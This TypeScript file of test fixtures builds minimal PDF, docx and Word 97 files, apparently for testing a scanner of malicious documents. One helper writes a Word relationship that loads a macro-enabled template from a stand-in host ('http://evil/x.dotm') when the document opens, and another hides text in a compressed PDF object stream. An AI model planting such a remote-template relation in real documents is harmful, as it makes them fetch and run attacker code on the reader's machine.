import { deflateSync } from 'node:zlib';
import { oleFile } from './ole-file';
import { zipFile, type ZipEntry } from './zip-file';

const pdfAround = (objects: Buffer): Buffer => {
  const head = Buffer.from('%PDF-1.7\n');
  const at = head.length + objects.length;
  const tail = `xref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([head, objects, Buffer.from(tail)]);
};

/** A PDF whose catalogue holds `extra`. */
export const pdfFile = (extra = ''): Buffer =>
  pdfAround(Buffer.from(`1 0 obj\n<< /Type /Catalog ${extra} >>\nendobj\n`));

/** A PDF that keeps `text` in a packed object stream. */
export function pdfWithPacked(text: string, header = '/Filter /FlateDecode'): Buffer {
  const packed = deflateSync(Buffer.from(text));
  const open = `2 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${header} /Length ${packed.length} >>\nstream\n`;
  return pdfAround(
    Buffer.concat([
      Buffer.from('1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
      Buffer.from(open),
      packed,
      Buffer.from('\nendstream\nendobj\n'),
    ]),
  );
}

/** A Word document with further entries. */
export const docxFile = (...more: ZipEntry[]): Buffer =>
  zipFile([
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'word/document.xml', data: '<w:document>Licence</w:document>' },
    ...more,
  ]);

/** The relation by which a document loads a template when it is opened. */
export const templateRelation = (mode: string, type = 'attachedTemplate'): ZipEntry => ({
  name: 'word/_rels/settings.xml.rels',
  data: `<Relationships><Relationship Id="rId1" Type="http://x/${type}" Target="http://evil/x.dotm" TargetMode="${mode}"/></Relationships>`,
});

/** A Word 97 document with further streams. */
export const docFile = (...names: string[]): Buffer =>
  oleFile([{ name: 'WordDocument' }, { name: '1Table' }, ...names.map((name) => ({ name }))]);
